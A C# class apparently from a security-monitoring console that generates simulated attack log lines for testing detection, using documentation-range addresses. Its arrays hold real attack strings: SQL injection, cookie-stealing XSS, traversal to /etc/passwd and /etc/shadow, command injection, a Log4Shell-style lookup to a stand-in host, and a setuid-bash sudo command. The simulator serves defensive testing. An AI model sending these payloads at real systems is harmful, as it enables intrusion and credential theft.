using System.Globalization;

namespace SocConsole.Core.Detection.Simulation;

/// <summary>
/// The log lines of simulated attacks: the same seed gives the same lines. Addresses are of the documentation ranges (RFC 5737), so that nothing real can be blocked.
/// </summary>
public static class AttackScript
{
    private static readonly string[] Users = ["root", "admin", "oracle", "postgres", "test", "ubuntu", "deploy", "git", "backup", "www", "ftp", "jenkins", "pi", "guest", "mysql", "nagios"];
    private static readonly string[] Injections = ["/search?q=1%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--%20-", "/item?id=1%20OR%201%3D1--", "/item?id=1%3B%20DROP%20TABLE%20orders--", "/login?user=admin%27--&pass=x", "/item?id=1%20AND%20SLEEP(5)"];
    private static readonly string[] Scripts = ["/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "/p?name=%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", "/c?t=javascript%3Aalert(document.cookie)"];
    private static readonly string[] Traversals = ["/download?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd", "/static/..%252f..%252f..%252fetc/shadow", "/view?page=....//....//etc/passwd"];
    private static readonly string[] Commands = ["/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd", "/cgi-bin/test?x=%60id%60", "/?x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.9%2Fa%7D"];
    private static readonly string[] Probes = ["/wp-login.php", "/.env", "/.git/config", "/phpmyadmin/", "/admin.php", "/backup.zip", "/server-status", "/actuator/env", "/solr/", "/xmlrpc.php", "/config.json", "/id_rsa", "/old/", "/test.php", "/shell.php", "/vendor/", "/cgi-bin/", "/manager/html", "/owa/", "/remote/login", "/telescope", "/debug", "/console", "/boaform"];

    /// <summary>The documented short names of what can be simulated.</summary>
    public static IReadOnlyList<string> AttackTypes { get; } =
        ["brute_force", "password_spraying", "account_compromise", "privilege_escalation", "sql_injection", "xss", "path_traversal", "command_injection", "scanner", "ddos"];

    public static IReadOnlyList<string> Intensities { get; } = ["low", "medium", "high"];

    /// <summary>How many lines the attack has, and over how many seconds they come.</summary>
    public static (int Events, int Seconds) Plan(string attackType, string intensity)
    {
        var scale = intensity switch { "low" => 1, "medium" => 3, _ => 10 };
        return attackType switch
        {
            "ddos" => (400 * scale, 2 * Math.Min(scale, 5)),
            "brute_force" => (10 * scale, 2 * Math.Min(scale, 5)),
            "password_spraying" or "scanner" => (24 * Math.Min(scale, 3), 4),
            "account_compromise" => ((10 * scale) + 1, 4),
            _ => (4 * scale, 3),
        };
    }

    /// <summary>The attacker that a seed stands for.</summary>
    public static string Attacker(int seed) => string.Create(CultureInfo.InvariantCulture, $"198.51.100.{(Math.Abs(seed) % 250) + 2}");

    /// <summary>The line at a position of the attack of the seed's attacker.</summary>
    public static string Line(string attackType, string target, int seed, int index, int count, DateTime at) => Line(attackType, target, Attacker(seed), index, count, at);

    /// <summary>The line at a position of the attack.</summary>
    /// <param name="attackType">One of <see cref="AttackTypes"/>.</param>
    /// <param name="target">Host that the lines are about.</param>
    /// <param name="attacker">Address that it comes from.</param>
    /// <param name="index">From 0.</param>
    /// <param name="count">How many lines the attack has.</param>
    /// <param name="at">When the line happened, UTC.</param>
    public static string Line(string attackType, string target, string attacker, int index, int count, DateTime at) => attackType switch
    {
        "brute_force" => FailedPassword(at, target, "root", attacker, index, valid: true),
        "password_spraying" => FailedPassword(at, target, Users[index % Users.Length] + (index / Users.Length == 0 ? string.Empty : (index / Users.Length).ToString(CultureInfo.InvariantCulture)), attacker, index, valid: false),
        "account_compromise" when index == count - 1 => Syslog(at, target, "sshd", 4000 + index, string.Create(CultureInfo.InvariantCulture, $"Accepted password for backup from {attacker} port {50_000 + index} ssh2")),
        "account_compromise" => FailedPassword(at, target, "backup", attacker, index, valid: true),
        "privilege_escalation" when index == count - 1 => Syslog(at, target, "sudo", 5000 + index, "www-data : TTY=pts/0 ; PWD=/var/www ; USER=root ; COMMAND=/usr/bin/chmod u+s /bin/bash"),
        "privilege_escalation" => Syslog(at, target, "sudo", 5000 + index, "www-data : user NOT in sudoers ; TTY=pts/0 ; PWD=/var/www ; USER=root ; COMMAND=/bin/bash"),
        "sql_injection" => Request(at, attacker, Injections[index % Injections.Length], 200, index),
        "xss" => Request(at, attacker, Scripts[index % Scripts.Length], 200, index),
        "path_traversal" => Request(at, attacker, Traversals[index % Traversals.Length], 404, index),
        "command_injection" => Request(at, attacker, Commands[index % Commands.Length], 200, index),
        "scanner" => Request(at, attacker, Probes[index % Probes.Length] + (index < Probes.Length ? string.Empty : $"?{index}"), 404, index),
        "ddos" => Request(at, attacker, string.Create(CultureInfo.InvariantCulture, $"/?{index}"), 200, index),
        _ => throw new ArgumentOutOfRangeException(nameof(attackType), attackType, "not an attack type"),
    };

    private static string FailedPassword(DateTime at, string host, string user, string attacker, int index, bool valid) =>
        Syslog(at, host, "sshd", 4000 + index, string.Create(CultureInfo.InvariantCulture, $"Failed password for {(valid ? string.Empty : "invalid user ")}{user} from {attacker} port {50_000 + (index % 10_000)} ssh2"));

    private static string Syslog(DateTime at, string host, string program, int pid, string message) =>
        string.Create(CultureInfo.InvariantCulture, $"{at:yyyy-MM-ddTHH:mm:ss.ffffffZ} {host} {program}[{pid}]: {message}");

    // Access logs tell whole seconds: the size of the answer keeps equal requests of one second apart, which the log would take for one delivered twice.
    private static string Request(DateTime at, string attacker, string target, int status, int index) =>
        string.Create(CultureInfo.InvariantCulture, $"{attacker} - - [{at:dd/MMM/yyyy:HH:mm:ss} +0000] \"GET {target} HTTP/1.1\" {status} {512 + index} \"-\" \"Mozilla/5.0\"");
}
